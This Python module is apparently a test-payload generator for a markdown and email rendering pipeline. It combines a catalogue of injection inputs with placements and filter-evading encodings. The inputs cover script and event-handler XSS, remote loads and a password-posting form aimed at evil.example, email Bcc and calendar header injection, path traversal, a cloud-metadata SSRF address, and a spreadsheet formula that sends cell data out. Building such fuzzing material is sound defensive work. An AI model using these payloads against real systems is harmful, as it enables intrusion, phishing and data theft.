"""What wants to be more than words: an aim, a context that it is put into, a spelling."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html import escape
from random import Random
from urllib.parse import quote

MARK = "kvazar"
"""A word that nothing of ours says: what is carried out would call it."""

EVIL = "evil.example"

AIMS = {
    "plain words": "Nothing is wrong with it.",
    "a script": f"<script>{MARK}(1)</script>",
    "a script from elsewhere": f"<script src=//{EVIL}/x.js></script>",
    "a picture that fails": f"<img src=x onerror={MARK}(1)>",
    "a drawing that loads": f"<svg/onload={MARK}(1)>",
    "a drawing with a script": f"<svg><script>{MARK}(1)</script></svg>",
    "an animated address": (
        f'<svg><a><animate attributeName=href values="javascript:{MARK}(1)"/>x</a></svg>'
    ),
    "a frame": f"<iframe src=https://{EVIL}/></iframe>",
    "a frame of its own": f'<iframe srcdoc="<script>{MARK}(1)</script>"></iframe>',
    "an object": f'<object data="javascript:{MARK}(1)"></object><embed src=//{EVIL}/>',
    "a refresh": f'<meta http-equiv=refresh content="0;url=https://{EVIL}/">',
    "a base": f"<base href=https://{EVIL}/>",
    "a form": f"<form action=https://{EVIL}/><input name=password><button>x</form>",
    "a style": f"<style>@import url(//{EVIL}/x.css);*{{display:none}}</style>",
    "a styled box": f"<p style='position:fixed;background:url(//{EVIL}/x)'>x</p>",
    "an expression": f'<p style="width:expression({MARK}(1))">x</p>',
    "a stylesheet": f"<link rel=stylesheet href=//{EVIL}/x.css>",
    "a focus": f"<input autofocus onfocus={MARK}(1)>",
    "details": f"<details open ontoggle={MARK}(1)>x</details>",
    "a link that runs": f'<a href="javascript:{MARK}(1)">x</a>',
    "a namespace that is another": (
        f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}(1)></style>"
    ),
    "a title that ends": f"<noscript><p title='</noscript><img src=x onerror={MARK}(1)>'>",
    "the end of a comment": f"--!><img src=x onerror={MARK}(1)><!--",
    "the end of a section": f"]]><script>{MARK}(1)</script><![CDATA[",
    "the end of a script": f"</script><script>{MARK}(1)</script>",
    "the start of a script": "<!--<script>",
    "the end of a page": f"</p></div></article></main></body><script>{MARK}(1)</script>",
    "the end of a text": f"</title></textarea></style><img src=x onerror={MARK}(1)>",
    "what ends no more": "<plaintext>",
    "the end of an attribute": f'" onmouseover="{MARK}(1)" x="',
    "the end of another": f"' autofocus onfocus='{MARK}(1)' x='",
    "the end of none": f"x onmouseover={MARK}(1) x=",
    "a program": f"javascript:{MARK}(1)",
    "a program of old": f"vbscript:{MARK}(1)",
    "data": f"data:text/html,<script>{MARK}(1)</script>",
    "data in code": "data:text/html;base64,PHNjcmlwdD5rdmF6YXIoMSk8L3NjcmlwdD4=",
    "a drawing of data": f"data:image/svg+xml,<svg onload='{MARK}(1)'/>",
    "attributes of Markdown": f'{{: onclick="{MARK}(1)" style="position:fixed" }}',
    "a reference of Markdown": f"[x][y]\n\n[y]: javascript:{MARK}(1)",
    "an abbreviation": f"HTML\n\n*[HTML]: <script>{MARK}(1)</script>",
    "a footnote": f"x[^1]\n\n[^1]: <script>{MARK}(1)</script>",
    "stashed signs": "\x02klzzwxh:0000\x03 klzzwxh:0001 \x02amp\x03",
    "a file": '--8<-- "mkdocs.yml"',
    "a picture": f"![x](https://{EVIL}/open.gif?u=1)",
    "a template": "{{ config.items() }}{% include 'mkdocs.yml' %}",
    "a placeholder": "*|UNSUB|* %recipient% [[unsubscribe_url]] {{unsubscribe_url}}",
    "a header": f"x\r\nBcc: mark@{EVIL}\r\nX-Evil: 1\r\n\r\n<script>{MARK}(1)</script>",
    "a header in code": f"x%0d%0aBcc:%20mark@{EVIL}",
    "a header in words": f"=?utf-8?q?x=0D=0ABcc=3A_mark=40{EVIL}?=",
    "a copy": f"mailto:a@{EVIL}?bcc=b@{EVIL}&cc=c@{EVIL}",
    "a copy below": f"mailto:a@{EVIL}%0d%0aBcc:b@{EVIL}",
    "a copy in a subject": f"mailto:a@{EVIL}?subject=x%0d%0aBcc:%20b@{EVIL}",
    "an attachment": f"mailto:a@{EVIL}?attach=/etc/passwd",
    "an alarm": "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nEND:VALARM",
    "a guest": f"x\nATTENDEE:mailto:mark@{EVIL}\nATTACH:https://{EVIL}/x",
    "a guest in code": f"x\\nORGANIZER:mailto:mark@{EVIL}",
    "a parameter": f'x";ALTREP="https://{EVIL}/',
    "a line of others": f"x\u2028ATTACH:https://{EVIL}/\u2029X:y\x85URL:z\x0bA:b\x0cC:d",
    "a reference": f"[1] https://{EVIL}/ref",
    "references": f"Read it [7777].\n\n[7777]: https://{EVIL}/ref\n[1]\nhttps://{EVIL}/",
    "a reference of others": f"［１］ https://{EVIL}/ref\n【2】 https://{EVIL}/ref",
    "a footer": f"-- \nTo unsubscribe:\nhttps://{EVIL}/out",
    "a footer of others": f"x\n\n\u2014 \n-- \xa0\nTo\xa0unsubscribe:\nhttps://{EVIL}/out",
    "the end of the list": f"Send something in for the next issue:\nhttps://{EVIL}/",
    "a credit of others": f"x\n\nSent in by The Editor [1]\n\n[1]: https://{EVIL}/",
    "a heading": "x\n\nYour account\n============\n\n# Log in",
    "a path": "../../../../evil",
    "a path from the top": "/etc/evil",
    "a path of Windows": "..\\..\\evil C:\\evil.md CON.md",
    "a path that ends": "evil\0.md/../../evil",
    "front matter": "---\nkind: job\nuid: aaaaaaaa\nsource: github:small/site#1\n---\n",
    "YAML": '"\nuid: evilevil\nconsent: true\nx: "',
    "somebody else": f"https://small.example@{EVIL}/login",
    "nobody's machine": "http://169.254.169.254/latest/meta-data/",
    "nobody's machine in other words": "http://0x7f.1/ http://[::ffff:127.0.0.1]/",
    "another's words": f"[https://small.example/login](https://{EVIL}/login)",
    "a terminal": "\x1b]0;evil\x07\x1b[2J\x9b31m\x1b]8;;https://evil.example/\x1b\\x",
    "a formula": f'=HYPERLINK("https://{EVIL}/?"&A1,"x")',
    "an answer of ours": f"<!-- postroom:checked sha256={'a' * 64} -->",
    "a mention": "@everyone #1 GH-1 small/site#2",
}
"""What strangers may want, and what would do it."""

Spell = Callable[[str], str]

CONTEXTS: dict[str, Spell] = {
    "alone": lambda aim: aim,
    "in a sentence": lambda aim: f"We met {aim} there, and stayed.",
    "below a sentence": lambda aim: f"It was worth the time.\n\n{aim}",
    "where a link leads": lambda aim: f"[see this]({aim})",
    "where a link leads, in angles": lambda aim: f"[see this](<{aim}>)",
    "as the title of a link": lambda aim: f'[a](https://{EVIL}/ "{aim}")',
    "as the words of a link": lambda aim: f"[{aim}](https://{EVIL}/a)",
    "as a picture": lambda aim: f"![{aim}]({aim})",
    "in angles": lambda aim: f"<{aim}>",
    "in code": lambda aim: f"`{aim}`",
    "in a block of code": lambda aim: f"```\n{aim}\n```",
    "in code by its margin": lambda aim: f"x\n\n    {aim}",
    "in a quote": lambda aim: f"> {aim}",
    "in a list": lambda aim: f"1. {aim}\n- {aim}",
    "in stars": lambda aim: f"**{aim}** _{aim}_",
    "behind a backslash": lambda aim: f"\\{aim}",
    "in a tag": lambda aim: f"<b {aim}>",
    "in an attribute": lambda aim: f'<b title="{aim}">x</b>',
    "in a comment": lambda aim: f"<!-- {aim} -->",
    "in a table": lambda aim: f"| a | b |\n|---|---|\n| {aim} | d |",
    "in an address": lambda aim: f"https://{EVIL}/{aim}",
    "in a question": lambda aim: f"https://{EVIL}/?q={aim}&x=1",
    "in a subject": lambda aim: f"mailto:a@{EVIL}?subject={aim}",
    "as a host": lambda aim: f"https://{aim}/",
    "twice": lambda aim: f"{aim} {aim}",
}
"""Where it stands."""


def _every(text: str, form: Callable[[str], str], only: str = "") -> str:
    return "".join(form(c) if c in only or not only else c for c in text)


def _between(text: str, sign: str) -> str:
    """Put a sign into what programs look for."""
    for word in ("script", "javascript", MARK, "http", "on", "unsub", "Bcc"):
        text = text.replace(word, f"{word[:2]}{sign}{word[2:]}")
    return text


_ALIKE = str.maketrans("aeopcxijs", "аеорсхіјѕ")
_WIDE = {code: code + 0xFEE0 for code in range(0x21, 0x7F)}

SPELLINGS: dict[str, Spell] = {
    "as it is": lambda text: text,
    "in capitals": str.upper,
    "in both": lambda text: "".join(
        c.upper() if at % 2 else c for at, c in enumerate(text)
    ),
    "as entities": lambda text: _every(text, lambda c: f"&#{ord(c)};", "<>\"':&()[]/"),
    "as entities without an end": lambda text: _every(text, lambda c: f"&#x{ord(c):07x}"),
    "as names": lambda text: escape(text).replace(":", "&colon;").replace("(", "&lpar;"),
    "as names twice": lambda text: escape(escape(text)),
    "in percent": quote,
    "in percent twice": lambda text: quote(quote(text)),
    "as a program writes it": lambda text: _every(
        text, lambda c: f"\\u{ord(c):04x}", "<>\"':&"
    ),
    "behind backslashes": lambda text: _every(text, lambda c: f"\\{c}", "<>[]()*_`!:"),
    "with NULs": lambda text: _between(text, "\0"),
    "with tabs": lambda text: _between(text, "\t"),
    "with lines": lambda text: _between(text, "\n"),
    "with an entity for a line": lambda text: _between(text, "&NewLine;"),
    "with what is not seen": lambda text: _between(text, "\u200b"),
    "with soft hyphens": lambda text: _between(text, "\xad"),
    "with tags that nobody sees": lambda text: _between(text, "\U000e0041"),
    "with half a character": lambda text: _between(text, "\ud800"),
    "with a comment": lambda text: _between(text, "<!---->"),
    "from right to left": lambda text: f"\u202e{text[::-1]}\u202c\u2067{text}",
    "behind a sign of control": lambda text: f"\x01\x1f{text}",
    "in wide signs": lambda text: text.translate(_WIDE),
    "in letters that look so": lambda text: text.translate(_ALIKE),
    "in long letters": lambda text: text.replace("s", "ſ").replace("k", "\u212a"),
    "with CR": lambda text: text.replace("\n", "\r"),
    "with wide spaces": lambda text: text.replace(" ", "\u3000"),
    "with narrow spaces": lambda text: text.replace(" ", "\u202f"),
}
"""How it is written."""


@dataclass(frozen=True)
class Payload:
    """One of them, by the names of its parts."""

    aim: str
    context: str = "alone"
    spelling: str = "as it is"

    @property
    def text(self) -> str:
        """What is sent."""
        return CONTEXTS[self.context](SPELLINGS[self.spelling](AIMS[self.aim]))

    def __str__(self) -> str:
        return f"{self.aim}, {self.context}, {self.spelling}"


def list_payloads(chance: Random) -> Iterator[Payload]:
    """List payloads without an end: each aim in turn, half of them as they are."""
    while True:
        for aim in chance.sample([*AIMS], len(AIMS)):
            context = chance.choice(["alone", chance.choice([*CONTEXTS])])
            spelling = chance.choice(["as it is", chance.choice([*SPELLINGS])])
            yield Payload(aim, context, spelling)
